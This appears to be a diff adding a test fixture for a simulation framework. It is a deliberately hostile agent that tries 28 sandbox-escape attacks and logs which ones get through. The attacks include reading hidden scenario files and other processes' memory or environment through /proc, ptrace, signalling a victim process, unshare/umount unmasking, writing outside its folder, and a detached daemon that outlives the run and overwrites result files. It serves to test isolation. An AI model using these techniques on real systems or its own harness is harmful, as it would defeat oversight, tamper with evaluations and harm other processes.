@@ -1,0 +1,280 @@
+"""An agent that tries everything to learn what it must not know or to harm others, and logs what it has reached.
+
+Its argument is JSON: what the test has laid out for it. Each attack returns evidence that it got through, or nothing.
+"""
+
+import contextlib
+import ctypes
+import json
+import os
+import resource
+import signal
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+from raw import RawAgent
+
+TOLD = json.loads(sys.argv[1])
+RUNS, OUTSIDE, VICTIM = Path(TOLD["runs"]), Path(TOLD["outside"]), TOLD["victim"]
+LIBRARY = ctypes.CDLL(None, use_errno=True)
+CLONE_NEWUSER, CLONE_NEWNS, PTRACE_SEIZE = 0x10000000, 0x20000, 0x4206
+SHARED_BYTES = 160 << 20
+
+
+def _text_of(*paths):
+    for path in paths:
+        with contextlib.suppress(OSError):
+            if found := Path(path).read_bytes():
+                return repr(found[:40])
+    return ""
+
+
+def read_scenario_file():
+    return _text_of(TOLD["scenario"], Path(TOLD["scenario"]).name)
+
+
+def read_bundled_scenario():
+    return _text_of(TOLD["bundled"])
+
+
+def read_run_folder():
+    names = ("scenario.yaml", "setup.json", "manifest.json")
+    return _text_of(*(path for name in names for path in RUNS.glob(f"*/{name}")))
+
+
+def read_run_folder_by_its_name():
+    run = Path(TOLD["runs"]) / agent.join.namespace.removeprefix("gsl/")
+    return _text_of(run / "scenario.yaml", run / "setup.json", run / "inputs.log", run / "logs" / "world.log")
+
+
+def read_through_proc():
+    roots = [f"/proc/{pid}/{link}" for pid in ("self", "1", VICTIM, os.getppid()) for link in ("root", "cwd")]
+    return _text_of(*(f"{root}{TOLD['scenario']}" for root in roots), *(f"{root}/room.yaml" for root in roots))
+
+
+def read_cache_of_environments():
+    with contextlib.suppress(OSError):
+        return str(list(Path(TOLD["cache"], "environments").iterdir())[:1])
+    return ""
+
+
+def read_environment_of_others():
+    for path in Path("/proc").glob("[0-9]*/environ"):
+        with contextlib.suppress(OSError):
+            if TOLD["secret"].encode() in path.read_bytes():
+                return str(path)
+    return ""
+
+
+def read_command_lines_of_others():
+    for path in Path("/proc").glob("[0-9]*/cmdline"):
+        with contextlib.suppress(OSError):
+            # Backwards in this process's own.
+            if TOLD["tnemugra"][::-1].encode() in path.read_bytes():
+                return str(path)
+    return ""
+
+
+def read_memory_of_others():
+    with contextlib.suppress(OSError):
+        place = int(Path(f"/proc/{VICTIM}/maps").read_text().split("-")[0], 16)
+        with Path(f"/proc/{VICTIM}/mem").open("rb") as memory:
+            memory.seek(place)
+            return repr(memory.read(8))
+    return ""
+
+
+def trace_others():
+    LIBRARY.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+    return "attached" if LIBRARY.ptrace(PTRACE_SEIZE, VICTIM, None, None) == 0 else ""
+
+
+def end_others():
+    with contextlib.suppress(OSError):
+        os.kill(VICTIM, signal.SIGUSR1)
+        return "signalled"
+    return ""
+
+
+def limit_others():
+    with contextlib.suppress(OSError):
+        resource.prlimit(VICTIM, resource.RLIMIT_NOFILE, (64, 64))
+        return "limited"
+    return ""
+
+
+def connect_by_tcp():
+    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", TOLD["tcp_port"]), timeout=1):
+        return "connected"
+    return ""
+
+
+def send_by_udp():
+    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
+        sender.connect(("127.0.0.1", TOLD["udp_port"]))
+        sender.send(b"?")
+        sender.settimeout(1)
+        return repr(sender.recv(1))
+    return ""
+
+
+def connect_to_abstract_socket():
+    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as caller:
+        caller.connect("\0" + TOLD["abstract"])
+        return "connected"
+    return ""
+
+
+def connect_to_unix_socket_of_others():
+    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as caller:
+        caller.connect(TOLD["unix"])
+        return "connected"
+    return ""
+
+
+def join_as_a_service():
+    from gslcosim.bus.zenoh_bus import SERVICE_USER, ZenohBus
+    from gslcosim.errors import GslCosimError
+
+    with contextlib.suppress(GslCosimError):
+        bus = ZenohBus.open_member(agent.join.model_copy(update={"user": SERVICE_USER}))
+        bus.close()
+        return "joined"
+    return ""
+
+
+def write_outside():
+    for folder in (OUTSIDE, RUNS, Path(TOLD["scenario"]).parent):
+        with contextlib.suppress(OSError):
+            (folder / "written").write_text("by the agent")
+            return str(folder)
+    return ""
+
+
+def change_its_own_program():
+    with contextlib.suppress(OSError), Path(__file__).open("a") as file:
+        file.write("\n# changed\n")
+        return "changed"
+    return ""
+
+
+def change_what_others_execute():
+    import gslcosim
+
+    for folder in (Path(gslcosim.__file__).parent, Path(TOLD["kernels"])):
+        with contextlib.suppress(OSError):
+            place = folder / "attacker_was_here"
+            place.touch()
+            place.unlink()
+            return str(folder)
+    return ""
+
+
+def change_rights():
+    with contextlib.suppress(OSError):
+        OUTSIDE.joinpath("victim.txt").chmod(0o600)
+        return "changed"
+    return ""
+
+
+def remove_files_of_others():
+    with contextlib.suppress(OSError):
+        OUTSIDE.joinpath("removable.txt").unlink()
+        return "removed"
+    return ""
+
+
+def put_a_link_in_place_of_its_log():
+    for log in (RUNS / agent.join.namespace.removeprefix("gsl/") / "logs" / "agent_beetle.log", *RUNS.glob("*/logs/*")):
+        with contextlib.suppress(OSError):
+            kept = log.rename(log.with_suffix(".kept"))
+            log.symlink_to(OUTSIDE / "victim.txt")
+            # Where it succeeds the test still wants to read it.
+            kept.replace(log)
+            return str(log)
+    return ""
+
+
+def reopen_inherited_files():
+    for link in Path("/proc/self/fd").glob("*"):
+        with contextlib.suppress(OSError):
+            target = str(link.readlink())
+            if target.startswith("/") and Path(target).is_file() and not target.endswith(".log"):
+                return _text_of(link)
+    return ""
+
+
+def fill_shared_memory():
+    place, n_bytes = Path("/dev/shm/filled"), 0
+    try:
+        with place.open("wb") as file:
+            while n_bytes < SHARED_BYTES:
+                n_bytes += file.write(bytes(1 << 20))
+                file.flush()
+    except OSError:
+        pass
+    with contextlib.suppress(OSError):
+        place.unlink()
+    return f"{n_bytes >> 20} MB" if n_bytes >= SHARED_BYTES else ""
+
+
+def take_away_what_hides():
+    masked = TOLD["scenario"]
+    program = f"umount {masked}; umount {TOLD['runs']}; cat {masked} {TOLD['runs']}/*/scenario.yaml"
+    with contextlib.suppress(OSError):
+        for call in (["unshare", "-Urm", "sh", "-c", program], ["sh", "-c", program]):
+            tried = subprocess.run(call, capture_output=True, check=False)
+            if tried.stdout:
+                return repr(tried.stdout[:40])
+    return ""
+
+
+def leave_a_daemon_behind():
+    if os.fork():
+        return ""
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    # Until the run's end and beyond.
+    ends_at_s = time.monotonic() + 60
+    LIBRARY.prctl(15, b"left_behind")
+    while time.monotonic() < ends_at_s:
+        for path in RUNS.glob("*/result.json"):
+            with contextlib.suppress(OSError):
+                path.write_text("{}")
+                (OUTSIDE / "rewritten").touch()
+        time.sleep(0.01)
+    os._exit(0)
+
+
+def write_memory_of_others():
+    with contextlib.suppress(OSError):
+        place = int(Path(f"/proc/{VICTIM}/maps").read_text().split("-")[0], 16)
+        with Path(f"/proc/{VICTIM}/mem").open("r+b", buffering=0) as memory:
+            memory.seek(place)
+            return "open for writing"
+    return ""
+
+
+ATTACKS = [
+    read_scenario_file, read_bundled_scenario, read_run_folder, read_run_folder_by_its_name, read_through_proc,
+    read_cache_of_environments, read_environment_of_others, read_command_lines_of_others, read_memory_of_others,
+    write_memory_of_others, trace_others, end_others, limit_others, connect_by_tcp, send_by_udp,
+    connect_to_abstract_socket, connect_to_unix_socket_of_others, join_as_a_service, write_outside,
+    change_its_own_program, change_what_others_execute, change_rights, remove_files_of_others,
+    put_a_link_in_place_of_its_log, reopen_inherited_files, fill_shared_memory, take_away_what_hides,
+    leave_a_daemon_behind,
+]  # fmt: skip
+
+if __name__ == "__main__":
+    agent = RawAgent()
+    for i_question, question in enumerate(agent.questions()):
+        if i_question == 0:
+            for attack in ATTACKS:
+                line = json.dumps({"attack": attack.__name__, "reached": attack()})
+                sys.stdout.write(f"{line}\n")
+                sys.stdout.flush()
+        agent.send_command(tick=question["tick"], kind="hold")
